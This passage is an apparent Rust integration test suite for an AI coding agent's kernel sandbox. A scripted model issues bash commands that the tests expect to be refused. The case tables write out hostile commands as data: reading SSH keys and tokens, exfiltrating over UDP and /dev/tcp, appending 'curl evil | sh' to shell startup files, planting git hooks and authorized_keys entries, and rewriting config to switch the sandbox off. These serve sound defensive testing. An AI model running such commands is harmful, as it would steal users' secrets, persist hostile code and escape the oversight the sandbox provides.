//! The sandbox, end to end: the built `bareagent run`, under a fake `$HOME`
//! holding a secret key, runs the `bash` calls the scripted model asks for —
//! once with the sandbox on and once with the user's `sandbox.mode = "off"`,
//! both in `bypass` mode (no questions: only the kernel stands in the way).
//! What the model server received as tool results is what is checked, so
//! "the model is told why" is tested where the model would read it. The off
//! run proves it is the sandbox that stopped the attacks.

use std::path::{Path, PathBuf};

use bareagent::sandbox::{SandboxMode, SandboxPolicy, SandboxSettings, SandboxStatus};
use serde_json::json;

use crate::common::{TEST_KEY, sent_tool_results, workspace};
use crate::support::model_server::{ModelServer, Reply, Step};

const KEY_TEXT: &str = "-----BEGIN FAKE KEY----- do-not-leak-0451";
/// In the workspace, under a `read(secrets/**)` deny rule.
const DENIED_TEXT: &str = "denied-by-rule-7731";

/// What a command must do.
#[derive(Clone, Copy, Debug)]
enum Expect {
    /// Fails; the result carries the sandbox's note with this text (or no
    /// note, when the refusal's message names nothing we can explain).
    Refused(Option<&'static str>),
    Succeeds,
    /// Succeeds, and the result says this (what the sandbox undid after it).
    SucceedsSaying(&'static str),
    /// Not checked (e.g. depends on being root when the sandbox is off).
    Any,
}

struct Case {
    name: &'static str,
    command: String,
    on: Expect,
    off: Expect,
    /// Text that must never reach the model with the sandbox on.
    secret: Option<&'static str>,
}

struct Fixture {
    home: tempfile::TempDir,
    dir: tempfile::TempDir,
    outside: PathBuf,
    port: u16,
    /// A UDP listener's port on 127.0.0.1.
    udp_port: u16,
    /// A file outside the workspace, owned by the agent's user.
    owned_outside: tempfile::NamedTempFile,
}

fn cases(f: &Fixture, tcp_confined: bool) -> Vec<Case> {
    use Expect::*;
    let outside = f.outside.display();
    let port = f.port;
    // SAFETY: geteuid only reads our credentials.
    let root = unsafe { libc::geteuid() } == 0;
    // Reversed, the key passes the output scrubber: only the kernel can
    // keep it from the model.
    let reversed_key: &'static str =
        Box::leak(TEST_KEY.chars().rev().collect::<String>().into_boxed_str());
    let case = |name, command: String, on, off, secret| Case {
        name,
        command,
        on,
        off,
        secret,
    };
    vec![
        case(
            "write to the shared /tmp",
            format!("echo x > {outside}"),
            Refused(Some("writing it is refused: it is outside the workspace")),
            Succeeds,
            None,
        ),
        case(
            "write to $HOME",
            "echo x > \"$HOME/planted\"".into(),
            Refused(Some("/planted: writing it is refused")),
            Succeeds,
            None,
        ),
        case(
            "write to /etc through a tool",
            "touch /etc/bareagent-sandbox-probe && rm /etc/bareagent-sandbox-probe".into(),
            Refused(Some("/etc/bareagent-sandbox-probe: writing it is refused")),
            Succeeds,
            None,
        ),
        case(
            "read the ssh key",
            "cat \"$HOME/.ssh/id_rsa\"".into(),
            Refused(Some("id_rsa: reading it is refused")),
            Succeeds,
            Some(KEY_TEXT),
        ),
        case(
            "read the key through a symlink made in the workspace",
            "ln -s \"$HOME/.ssh\" keys && cat keys/id_rsa".into(),
            Refused(Some("reading it is refused")),
            Succeeds,
            Some(KEY_TEXT),
        ),
        case(
            "hard-link the key into the workspace",
            "ln \"$HOME/.ssh/id_rsa\" stolen && cat stolen".into(),
            Refused(None),
            Succeeds,
            Some(KEY_TEXT),
        ),
        case(
            "copy the key with another tool",
            "python3 -c \"import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())\""
                .into(),
            Refused(Some("reading it is refused")),
            Succeeds,
            Some(KEY_TEXT),
        ),
        case(
            "read the key that signs the sessions",
            "cat \"$HOME/.local/state/bareagent/session-key\"".into(),
            Refused(Some("reading it is refused")),
            Succeeds,
            Some("session-key-0451"),
        ),
        case(
            "read the agent's own config",
            "cat \"$HOME/.config/bareagent/config.toml\"".into(),
            Refused(Some("reading it is refused")),
            Succeeds,
            None,
        ),
        // The agent is non-dumpable, and a command keeps no capability: the
        // agent's /proc/PID/environ (and the reaper's, forked from it) are
        // closed to it, root or not.
        case(
            "read the agent's environment",
            "set -o pipefail; tr '\\0' '\\n' < /proc/$PPID/environ | rev".into(),
            Refused(Some("/proc files are refused")),
            Any,
            Some(reversed_key),
        ),
        case(
            "read the environment of the agent's other children (the reaper)",
            "for p in $(cat /proc/$PPID/task/*/children); do tr '\\0' '\\n' < /proc/$p/environ | rev; done; true"
                .into(),
            Succeeds,
            Any,
            Some(reversed_key),
        ),
        // ---- least privilege in the child, root or not ----
        case(
            "a command holds no capability and gains none",
            "awk '/^Cap(Inh|Prm|Eff|Bnd|Amb):/ && $2 !~ /^0+$/ {bad=1} /^NoNewPrivs:/ && $2 != 1 {bad=1} END {exit bad}' /proc/self/status"
                .into(),
            Succeeds,
            Refused(None),
            None,
        ),
        case(
            "make a block device of the disk",
            "mknod blk b 7 0 && rm blk".into(),
            Refused(None),
            if root { Succeeds } else { Any },
            None,
        ),
        case(
            "make a character device",
            "mknod mem c 1 1 && rm mem".into(),
            Refused(None),
            if root { Succeeds } else { Any },
            None,
        ),
        case(
            "chown a file outside the workspace",
            format!("chown 65534 {}", f.owned_outside.path().display()),
            Refused(None),
            if root { Succeeds } else { Any },
            None,
        ),
        case(
            "add an address to an interface",
            "ip addr add 10.250.77.1/32 dev lo && ip addr del 10.250.77.1/32 dev lo".into(),
            Refused(None),
            if root { Succeeds } else { Any },
            None,
        ),
        case(
            "open a raw IP socket",
            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)'"
                .into(),
            Refused(None),
            if root { Succeeds } else { Any },
            None,
        ),
        case(
            "send UDP to a listener",
            format!(
                "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {}))\"",
                f.udp_port
            ),
            Refused(None),
            Succeeds,
            None,
        ),
        case(
            "connect to a TCP listener",
            format!("echo hi > /dev/tcp/127.0.0.1/{port}"),
            if tcp_confined {
                Refused(Some("outbound TCP is off"))
            } else {
                Succeeds
            },
            Succeeds,
            None,
        ),
        case(
            "write and read back in the workspace",
            "mkdir -p out && echo ok > out/inside.txt && cat out/inside.txt".into(),
            Succeeds,
            Succeeds,
            None,
        ),
        case(
            "write and read back in $TMPDIR",
            "test \"$TMPDIR\" != /tmp && echo ok > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"".into(),
            Succeeds,
            Any,
            None,
        ),
        case(
            "write a toolchain cache",
            "echo ok > \"$HOME/.cache/pip/made\" && cat \"$HOME/.cache/pip/made\"".into(),
            Succeeds,
            Succeeds,
            None,
        ),
        // ---- nothing written now that runs later: caches, not toolchains ----
        case(
            "append to ~/.cargo/env (the next shell sources it)",
            "echo 'curl evil | sh' >> \"$HOME/.cargo/env\"".into(),
            Refused(Some("/.cargo/env: writing it is refused")),
            Succeeds,
            None,
        ),
        case(
            "write ~/.cargo/config.toml (the next build reads it)",
            "echo '[build]' > \"$HOME/.cargo/config.toml\"".into(),
            Refused(Some("writing it is refused")),
            Succeeds,
            None,
        ),
        case(
            "plant a binary in ~/.cargo/bin",
            "echo evil > \"$HOME/.cargo/bin/cargo-fmt\"".into(),
            Refused(Some("writing it is refused")),
            Succeeds,
            None,
        ),
        case(
            "plant a Gradle init script",
            "echo evil > \"$HOME/.gradle/init.d/x.gradle\"".into(),
            Refused(Some("writing it is refused")),
            Succeeds,
            None,
        ),
        case(
            "write cargo's registry cache",
            "echo ok > \"$HOME/.cargo/registry/made\"".into(),
            Succeeds,
            Succeeds,
            None,
        ),
        case(
            "read beside the denied folder",
            "cat \"$HOME/notes.txt\" /etc/hostname >/dev/null".into(),
            Succeeds,
            Succeeds,
            None,
        ),
        // ---- nothing written now that runs later: git, editors, the agent ----
        case(
            "commit (git records work)",
            "git add -A && git -c user.email=a@b.c -c user.name=a commit -qm work && git log --oneline | wc -l"
                .into(),
            Succeeds,
            Succeeds,
            None,
        ),
        case(
            "write a git hook",
            "echo 'touch pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "append an alias that runs a program to .git/config",
            "printf '[alias]\\n\\tst = !touch pwned\\n' >> .git/config".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "set core.fsmonitor with git config",
            "git config core.fsmonitor 'touch pwned'".into(),
            Refused(None),
            Succeeds,
            None,
        ),
        case(
            "write info/attributes",
            "echo '* filter=x' > .git/info/attributes".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "write a submodule's hook",
            "echo 'touch pwned' > .git/modules/lib/hooks/post-checkout".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "point a linked worktree at another common folder",
            "echo /tmp > .git/worktrees/wt/commondir".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "plant .git/commondir (git would read config and hooks from elsewhere)",
            "mkdir -p evil/hooks && cp .git/config evil/config && echo \"$PWD/evil\" > .git/commondir"
                .into(),
            SucceedsSaying("Removed .git/commondir"),
            Succeeds,
            None,
        ),
        case(
            "write a hook where core.hooksPath points",
            "echo 'touch pwned' > .githooks/pre-commit".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "write .vscode/tasks.json",
            "echo '{}' > .vscode/tasks.json".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "append to .envrc",
            "echo 'curl evil | sh' >> .envrc".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "turn the next session's sandbox off in .bareagent/config.toml",
            "printf '[sandbox]\\nmode = \\\"off\\\"\\n' > .bareagent/config.toml".into(),
            Refused(Some("commands may not change, move or link it")),
            Succeeds,
            None,
        ),
        case(
            "replace .vscode by renaming it",
            "mv .vscode .vscode-old && mkdir .vscode".into(),
            Refused(None),
            Succeeds,
            None,
        ),
        case(
            "rename .cargo away and plant a config cargo runs",
            "mv .cargo .cargo.old && mkdir .cargo && echo '[build]' > .cargo/config.toml".into(),
            Refused(None),
            Succeeds,
            None,
        ),
        case(
            "rename .git away and plant another repository",
            "mv .git .git-old && mkdir -p .git/hooks".into(),
            Refused(None),
            Succeeds,
            None,
        ),
    ]
}

fn fixture() -> Fixture {
    let home = tempfile::tempdir().expect("home");
    for (path, text) in [
        (".ssh/id_rsa", KEY_TEXT),
        ("notes.txt", "not a secret\n"),
        (".cache/pip/keep", ""),
        (".local/state/bareagent/session-key", "session-key-0451"),
        (".cargo/env", "export PATH=\"$HOME/.cargo/bin:$PATH\"\n"),
        (".cargo/bin/keep", ""),
        (".cargo/registry/keep", ""),
        (".gradle/init.d/keep", ""),
        (".gradle/caches/keep", ""),
    ] {
        let path = home.path().join(path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    }
    let outside = PathBuf::from(format!(
        "/tmp/bareagent-sandbox-outside-{}-{}",
        std::process::id(),
        fastrand::u64(..)
    ));
    let dir = workspace(&[
        ("secrets/key.txt", DENIED_TEXT),
        (".envrc", "use nix\n"),
        (".vscode/settings.json", "{}\n"),
        (".githooks/keep", ""),
        (".cargo/config.toml", "[build]\njobs = 2\n"),
    ]);
    let git = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(dir.path())
        .status()
        .expect("git init");
    assert!(git.success());
    std::fs::write(
        dir.path().join(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\thooksPath = .githooks\n",
    )
    .expect("git config");
    // A submodule's git folder and a linked worktree's, as git makes them.
    for folder in [
        ".git/modules/lib/hooks",
        ".git/modules/lib/info",
        ".git/worktrees/wt",
    ] {
        std::fs::create_dir_all(dir.path().join(folder)).expect("git folders");
    }
    std::fs::write(dir.path().join(".git/modules/lib/config"), "[core]\n").expect("config");
    std::fs::write(dir.path().join(".git/worktrees/wt/commondir"), "../..\n").expect("commondir");
    Fixture {
        home,
        dir,
        outside,
        port: 0,
        udp_port: 0,
        owned_outside: tempfile::NamedTempFile::new().expect("outside file"),
    }
}

/// One `bareagent run` doing every case's command in turn; the tool results
/// the model server received, in order.
fn run_all(f: &Fixture, cases: &[Case], mode: &str) -> (Vec<(String, bool)>, String) {
    run_with(f, cases, mode, "")
}

/// The same, with more settings (TOML) before the `[sandbox]` table.
fn run_with(
    f: &Fixture,
    cases: &[Case],
    mode: &str,
    settings: &str,
) -> (Vec<(String, bool)>, String) {
    run_in(
        f.home.path(),
        f.dir.path(),
        cases,
        mode,
        settings,
        Launch::Plain,
    )
}

/// How the agent is started.
#[derive(Clone, Copy)]
enum Launch {
    Plain,
    /// As this uid (and gid).
    AsUser(u32),
    /// On a pseudo-terminal that is its controlling terminal, as on a
    /// user's terminal (Python's `pty.spawn`).
    OnTerminal,
}

/// `inner`'s arguments, directory and environment, given to `program`
/// after `prefix`.
fn relaunch(
    inner: &std::process::Command,
    program: &std::ffi::OsStr,
    prefix: &[&std::ffi::OsStr],
) -> std::process::Command {
    let mut outer = std::process::Command::new(program);
    outer
        .args(prefix)
        .args(inner.get_args())
        .stdin(std::process::Stdio::null());
    if let Some(dir) = inner.get_current_dir() {
        outer.current_dir(dir);
    }
    for (name, value) in inner.get_envs() {
        match value {
            Some(value) => outer.env(name, value),
            None => outer.env_remove(name),
        };
    }
    outer
}

/// The same, with `$HOME` at `home` and the workspace at `dir`, started
/// as `launch` says.
fn run_in(
    home: &Path,
    dir: &Path,
    cases: &[Case],
    mode: &str,
    settings: &str,
    launch: Launch,
) -> (Vec<(String, bool)>, String) {
    let config = home.join(".config/bareagent/config.toml");
    std::fs::create_dir_all(config.parent().expect("parent")).expect("mkdir");
    // `mode` may carry more lines of the table (`workspace-write"\nnetwork = true`).
    std::fs::write(
        &config,
        format!("{settings}\n[sandbox]\nmode = \"{mode}\"\n"),
    )
    .expect("config");
    let mut script: Vec<Step> = cases
        .iter()
        .map(|c| Reply::tool("bash", json!({"command": c.command, "timeout_ms": 20_000})).into())
        .collect();
    script.push(Reply::text("done").into());
    let server = ModelServer::start(script);
    let mut command = crate::common::bareagent(dir);
    crate::common::run_against_model(&mut command, &server)
        .env("HOME", home)
        .env_remove("XDG_CONFIG_HOME")
        .args(["--permission-mode", "bypass", "--idle-timeout", "10", "go"]);
    match launch {
        Launch::Plain => {}
        Launch::AsUser(uid) => {
            // A copy the user can reach, wherever the build lies.
            let copy = home.join("bareagent");
            std::fs::copy(command.get_program(), &copy).expect("copy the binary");
            let owner = std::process::Command::new("chown")
                .arg(format!("{uid}:{uid}"))
                .arg(&copy)
                .status()
                .expect("chown");
            assert!(owner.success());
            command = relaunch(&command, copy.as_os_str(), &[]);
            std::os::unix::process::CommandExt::uid(&mut command, uid);
            std::os::unix::process::CommandExt::gid(&mut command, uid);
        }
        Launch::OnTerminal => {
            let script = "import pty, sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)";
            let program = command.get_program().to_owned();
            command = relaunch(
                &command,
                "python3".as_ref(),
                &["-c".as_ref(), script.as_ref(), &program],
            );
        }
    }
    let out = command.output().expect("bareagent runs");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "bareagent run failed: {stderr}");
    let requests = server.requests();
    let last = requests.last().expect("the model was called");
    let results = sent_tool_results(&last.body);
    assert_eq!(results.len(), cases.len(), "{stderr}");
    (results, stderr)
}

impl Case {
    /// A case that must succeed with the sandbox off and give `on` with it on.
    fn new(name: &'static str, command: &str, on: Expect) -> Case {
        Case {
            name,
            command: command.into(),
            on,
            off: Expect::Succeeds,
            secret: None,
        }
    }

    /// Not checked with the sandbox off (an earlier row changed the files).
    fn off_any(mut self) -> Case {
        self.off = Expect::Any;
        self
    }
}

/// Judges every row with the sandbox on before asserting, so a run shows
/// every hole at once.
fn assert_all_hold(cases: &[Case], results: &[(String, bool)], mode: &str, context: &str) {
    let failures: Vec<String> = cases
        .iter()
        .zip(results)
        .filter_map(|(case, result)| verdict(case, case.on, result, mode).err())
        .collect();
    assert!(failures.is_empty(), "{}\n{context}", failures.join("\n"));
}

fn check(case: &Case, expect: Expect, result: &(String, bool), mode: &str) {
    if let Err(failure) = verdict(case, expect, result, mode) {
        panic!("{failure}");
    }
}

/// Whether `result` is what `expect` says, or why not.
fn verdict(case: &Case, expect: Expect, result: &(String, bool), mode: &str) -> Result<(), String> {
    let (content, is_error) = result;
    let what = format!("[{mode}] {}: `{}` gave {content}", case.name, case.command);
    let holds = match expect {
        Expect::Succeeds => !is_error,
        Expect::SucceedsSaying(note) => !is_error && content.contains(note),
        Expect::Refused(None) => *is_error,
        Expect::Refused(Some(note)) => {
            *is_error && content.contains("[sandbox]") && content.contains(note)
        }
        Expect::Any => true,
    };
    let leaked = mode != "off" && case.secret.is_some_and(|secret| content.contains(secret));
    match (holds, leaked) {
        (true, false) => Ok(()),
        (_, true) => Err(format!("leaked a secret: {what}")),
        (false, _) => Err(format!("expected {expect:?}: {what}")),
    }
}

/// Landlock's ABI here, or `None` (and the reason printed) where the kernel
/// has none; CI sets `BAREAGENT_REQUIRE_LANDLOCK=1` so a skip there fails.
pub fn landlock_abi() -> Option<i32> {
    let policy = SandboxPolicy::new(
        &SandboxSettings {
            mode: Some(SandboxMode::WorkspaceWrite),
            ..SandboxSettings::default()
        },
        Path::new("/"),
    );
    match SandboxStatus::of(&policy) {
        SandboxStatus::Enforced { abi, .. } => Some(abi),
        other => {
            crate::support::peers::missing(
                crate::support::peers::Peer::Landlock,
                &other.to_string(),
            );
            None
        }
    }
}

#[test]
fn the_sandbox_refuses_what_it_must_and_says_why_and_off_lets_it_through() {
    let Some(abi) = landlock_abi() else { return };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp listener");
    udp.set_nonblocking(true).expect("nonblocking");
    let mut f = fixture();
    f.port = listener.local_addr().expect("port").port();
    f.udp_port = udp.local_addr().expect("udp port").port();
    let cases = cases(&f, abi >= 4);

    let (on, stderr) = run_all(&f, &cases, "workspace-write");
    assert!(!stderr.contains("sandbox off"), "{stderr}");
    assert_all_hold(&cases, &on, "on", "");
    // Loopback UDP is queued at `sendto`: had one datagram left, it is here.
    let mut buffer = [0u8; 16];
    assert!(
        udp.recv(&mut buffer).is_err(),
        "a datagram left the sandbox"
    );
    assert!(
        !f.outside.exists(),
        "the sandbox let {} be written",
        f.outside.display()
    );
    assert!(!f.home.path().join("planted").exists());
    assert!(!f.dir.path().join(".git/commondir").exists());

    // Clean what the first run made, so the second starts alike.
    for made in ["keys", "stolen", "out"] {
        let path = f.dir.path().join(made);
        let _ = std::fs::remove_file(&path).or_else(|_| std::fs::remove_dir_all(&path));
    }
    let (off, stderr) = run_all(&f, &cases, "off");
    assert!(
        stderr.contains("sandbox off"),
        "bareagent run says so: {stderr}"
    );
    for (case, result) in cases.iter().zip(&off) {
        check(case, case.off, result, "off");
    }
    assert!(f.outside.exists(), "with the sandbox off the write lands");
    let _ = std::fs::remove_file(&f.outside);
    assert_eq!(
        udp.recv(&mut buffer).ok(),
        Some(4),
        "with the sandbox off the datagram arrives"
    );
}

/// `$HOME` as the workspace: the secrets in it stay unreadable to
/// commands, and what the shell and git run later stays unwritable, while
/// the rest of the workspace is written as usual.
#[test]
fn a_workspace_at_home_keeps_its_secrets_and_startup_files() {
    let Some(_) = landlock_abi() else { return };
    let home = workspace(&[
        (".ssh/authorized_keys", "ssh-ed25519 AAAA mine\n"),
        (".git-credentials", "https://user:ghp_tok3n@github.com\n"),
        (".config/gh/hosts.yml", "oauth_token: gho_tok3n\n"),
        (".bashrc", "alias ll='ls -l'\n"),
        (".local/bin/tool", "#!/bin/sh\n"),
        (".cargo/env", "export PATH\n"),
        (".cargo/bin/cargo", "#!/bin/sh\n"),
        (".cargo/registry/keep", ""),
        ("notes.txt", "mine\n"),
    ]);
    let home = home.path();
    let case = |name, command: &str, on| Case {
        secret: Some("tok3n"),
        ..Case::new(name, command, on)
    };
    let cases = [
        case(
            "read .git-credentials",
            "cat .git-credentials",
            Expect::Refused(Some("reading it is refused")),
        ),
        case(
            "read the GitHub CLI's token",
            "cat .config/gh/hosts.yml",
            Expect::Refused(Some("reading it is refused")),
        ),
        case(
            "add a key to .ssh/authorized_keys",
            "echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys",
            Expect::Refused(None),
        ),
        case(
            "append to .bashrc",
            "echo 'curl evil | sh' >> .bashrc",
            Expect::Refused(Some("commands may not change, move or link it")),
        ),
        case(
            "plant a program in ~/.local/bin",
            "echo evil > .local/bin/git",
            Expect::Refused(Some("commands may not change, move or link it")),
        ),
        case(
            "write the agent's config",
            "printf '[sandbox]\\nmode = \\\"off\\\"\\n' > .config/bareagent/config.toml",
            Expect::Refused(None),
        ),
        case(
            "rename .config away and plant the agent's config",
            "mv .config .config.old && mkdir -p .config/bareagent",
            Expect::Refused(None),
        ),
        case(
            "append to ~/.cargo/env",
            "echo 'curl evil | sh' >> .cargo/env",
            Expect::Refused(Some("commands may not change, move or link it")),
        ),
        case(
            "plant a program in ~/.cargo/bin",
            "echo evil > .cargo/bin/cargo",
            Expect::Refused(Some("commands may not change, move or link it")),
        ),
        case(
            "write cargo's registry cache",
            "echo ok > .cargo/registry/made",
            Expect::Succeeds,
        ),
        case(
            "write an ordinary file",
            "echo ok > made.txt && cat notes.txt",
            Expect::Succeeds,
        ),
        case(
            "read it in the next command",
            "cat made.txt",
            Expect::Succeeds,
        ),
    ];
    let (results, _) = run_in(home, home, &cases, "workspace-write", "", Launch::Plain);
    assert_all_hold(&cases, &results, "on", "");
    let keys = std::fs::read_to_string(home.join(".ssh/authorized_keys")).expect("keys");
    assert!(!keys.contains("attacker"), "{keys}");
}

/// A link at a protected name would carry the pin to its target and leave
/// the link itself replaceable: commands refuse to start instead, and say
/// why (and a link swapped in while a command starts cannot move a pin).
#[test]
fn a_link_at_a_protected_name_stops_commands_rather_than_moving_the_pin() {
    let Some(_) = landlock_abi() else { return };
    let f = fixture();
    let hooks = f.dir.path().join(".git/hooks");
    std::fs::remove_dir_all(&hooks).expect("hooks");
    std::fs::create_dir(f.dir.path().join("githooks")).expect("githooks");
    std::os::unix::fs::symlink("../githooks", &hooks).expect("link");
    let case = Case::new(
        "replace a linked .git/hooks with a folder of hooks",
        "rm .git/hooks && mkdir .git/hooks && echo evil > .git/hooks/pre-commit",
        Expect::Refused(None),
    );
    let (results, _) = run_with(&f, std::slice::from_ref(&case), "workspace-write", "");
    check(&case, case.on, &results[0], "on");
    assert!(results[0].0.contains("symbolic link"), "{}", results[0].0);
    assert!(hooks.symlink_metadata().expect("still there").is_symlink());
}

/// A user without privilege gets the protections through a user namespace
/// (the agent is non-dumpable, which once kept it from writing its id
/// maps): files are made at the top of the workspace and git commits,
/// while git's hooks stay unwritable.
#[test]
fn an_agent_run_by_an_ordinary_user_protects_the_same() {
    let Some(_) = landlock_abi() else { return };
    // SAFETY: geteuid only reads our credentials.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: needs root to become another user");
        return;
    }
    let f = fixture();
    let nobody = 65534;
    for root in [f.home.path(), f.dir.path()] {
        let chown = std::process::Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(root)
            .status()
            .expect("chown");
        assert!(chown.success());
    }
    let case = Case::new;
    let cases = [
        case(
            "make a file at the top and commit",
            "touch top.txt && git add top.txt && git -c user.email=a@b.c -c user.name=a commit -qm top",
            Expect::Succeeds,
        ),
        case(
            "write a git hook",
            "echo evil > .git/hooks/pre-commit",
            Expect::Refused(Some("commands may not change, move or link it")),
        ),
    ];
    let (results, stderr) = run_in(
        f.home.path(),
        f.dir.path(),
        &cases,
        "workspace-write",
        "",
        Launch::AsUser(nobody),
    );
    assert_all_hold(&cases, &results, "nobody", &stderr);
}

/// On the user's terminal, a command has none: it cannot open it, so it
/// cannot type into the user's shell or answer an approval (TIOCSTI), nor
/// read the keys the user types.
#[test]
fn a_command_has_no_terminal_to_type_into() {
    let Some(_) = landlock_abi() else { return };
    let f = fixture();
    let case = |name, command: &str, on| Case {
        off: on,
        ..Case::new(name, command, on)
    };
    let cases = [
        // The harness is real: the agent has a controlling terminal.
        case(
            "the agent runs on a terminal",
            "awk '{exit ($7 == 0)}' /proc/$PPID/stat",
            Expect::Succeeds,
        ),
        case(
            "open the terminal the agent runs on",
            "python3 -c \"import os; os.open('/dev/tty', os.O_RDWR)\"",
            Expect::Refused(None),
        ),
    ];
    let (results, _) = run_in(
        f.home.path(),
        f.dir.path(),
        &cases,
        "workspace-write",
        "",
        Launch::OnTerminal,
    );
    for (case, result) in cases.iter().zip(&results) {
        check(case, case.on, result, "on a terminal");
    }
}

/// A workspace inside a folder the user made writable cannot be renamed
/// away and replaced by a repository of the command's making.
#[test]
fn a_workspace_inside_a_writable_folder_cannot_be_replaced() {
    let Some(_) = landlock_abi() else { return };
    let f = fixture();
    let root = f.dir.path().canonicalize().expect("root");
    let parent = root.parent().expect("parent").display().to_string();
    let name = root
        .file_name()
        .expect("name")
        .to_string_lossy()
        .into_owned();
    let case = Case::new(
        "rename the workspace away from its parent and plant another",
        &format!("cd .. && mv {name} {name}.old && mkdir -p {name}/.git/hooks"),
        Expect::Refused(None),
    );
    let mode = format!("workspace-write\"\nwritable = [{parent:?}]\n#\"");
    let (results, _) = run_with(&f, std::slice::from_ref(&case), &mode, "");
    check(&case, case.on, &results[0], "on");
    assert!(
        root.join(".git/config").exists(),
        "the workspace was replaced"
    );
}

/// Trust loosens permissions, never the sandbox: a trusted project's
/// `sandbox.mode = "off"`, `network = true` and `writable` (which the agent
/// could have written in an earlier session) are ignored and said so.
#[test]
fn a_trusted_project_cannot_loosen_the_sandbox() {
    let Some(_) = landlock_abi() else { return };
    let f = fixture();
    let project = f.dir.path().join(".bareagent/config.toml");
    std::fs::create_dir_all(project.parent().expect("parent")).expect("mkdir");
    std::fs::write(
        &project,
        "[sandbox]\nmode = \"off\"\nnetwork = true\nwritable = [\"/tmp\"]\n",
    )
    .expect("project config");
    let root = f.dir.path().canonicalize().expect("root");
    let trusted = format!(
        "[projects.{:?}]\ntrusted = true\n",
        root.display().to_string()
    );
    let case = Case::new(
        "write outside under a trusted project's sandbox.mode = off",
        &format!("echo x > {}", f.outside.display()),
        Expect::Refused(Some("writing it is refused")),
    );
    let (results, stderr) = run_with(&f, std::slice::from_ref(&case), "workspace-write", &trusted);
    check(&case, case.on, &results[0], "trusted project");
    assert!(!f.outside.exists(), "the project turned the sandbox off");
    assert!(
        stderr.contains("Ignored sandbox settings")
            && stderr.contains("sandbox.mode = \"off\"")
            && stderr.contains("sandbox.network = true"),
        "{stderr}"
    );
}

/// The seccomp filter is what refused UDP above: with `network = true` the
/// same datagram leaves, and the status says what is confined.
#[test]
fn udp_leaves_when_the_user_allows_the_network() {
    let Some(_) = landlock_abi() else { return };
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp listener");
    let mut f = fixture();
    f.udp_port = udp.local_addr().expect("udp port").port();
    let send = cases(&f, false)
        .into_iter()
        .filter(|c| c.name == "send UDP to a listener")
        .collect::<Vec<_>>();
    assert_eq!(send.len(), 1);
    let (results, _) = run_all(&f, &send, "workspace-write\"\nnetwork = true\n#\"");
    check(&send[0], Expect::Succeeds, &results[0], "network on");
    udp.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .expect("timeout");
    let mut buffer = [0u8; 16];
    assert_eq!(udp.recv(&mut buffer).ok(), Some(4), "the datagram arrives");
}

#[test]
fn the_language_server_reports_the_sandbox_in_its_status() {
    let Some(abi) = landlock_abi() else { return };
    let dir = workspace(&[]);
    let client = crate::support::lsp_client::LspClient::start(
        Path::new(env!("CARGO_BIN_EXE_bareagent")),
        crate::support::lsp_client::ClientOptions::new(dir.path()),
    );
    client.initialize();
    let status = client
        .execute("bareagent.status", json!([]))
        .expect("status");
    let sandbox = status["sandbox"].as_str().unwrap_or_default();
    assert!(
        sandbox.starts_with(&format!("sandbox on (Landlock ABI {abi})")),
        "{status}"
    );
    client.shutdown();
}

/// A read-deny rule holds for commands too: a program the gate lets through
/// (here in bypass mode, naming the file inside a string) cannot read it.
/// Landlock only grants, so the files beside it stay readable, and an entry
/// made in the workspace root by a command is readable from its next command
/// on (the rules are built per command; docs/security.md says so).
#[test]
fn a_read_deny_rule_is_enforced_by_the_kernel() {
    let Some(_) = landlock_abi() else { return };
    let f = fixture();
    std::fs::write(f.dir.path().join("beside.txt"), "readable\n").expect("write");
    let case = Case::new;
    let cases = [
        case(
            "read what the rule denies, past the gate",
            "python3 -c \"print(open('secrets/key.txt').read())\"",
            Expect::Refused(Some("reading it is refused")),
        ),
        // Each in two commands: an entry a command makes in the workspace
        // root is unreadable to that same command, readable from the next.
        case(
            "rename a denied file out",
            "python3 -c \"import os; os.rename('secr'+'ets/key.txt', 'k2.txt')\"",
            Expect::Refused(None),
        ),
        case("read the renamed file", "cat k2.txt", Expect::Refused(None)),
        case(
            "hard-link a denied file out",
            "ln \"$(printf secrets)/key.txt\" k3.txt",
            Expect::Refused(None),
        )
        .off_any(),
        case("read the link", "cat k3.txt", Expect::Refused(None)).off_any(),
        case(
            "move the denied folder away",
            "mv secrets open",
            Expect::Refused(None),
        )
        .off_any(),
        case(
            "read the moved folder",
            "cat open/key.txt",
            Expect::Refused(None),
        )
        .off_any(),
        case("read beside it", "cat beside.txt", Expect::Succeeds),
        case(
            "make a directory",
            "mkdir -p made && echo ok > made/x",
            Expect::Succeeds,
        ),
        case(
            "read it in the next command",
            "cat made/x",
            Expect::Succeeds,
        ),
    ];
    let deny = "[permissions]\ndeny = [\"read(secrets/**)\"]";
    for mode in ["workspace-write", "off"] {
        let _ = std::fs::remove_dir_all(f.dir.path().join("made"));
        let (results, _) = run_with(&f, &cases, mode, deny);
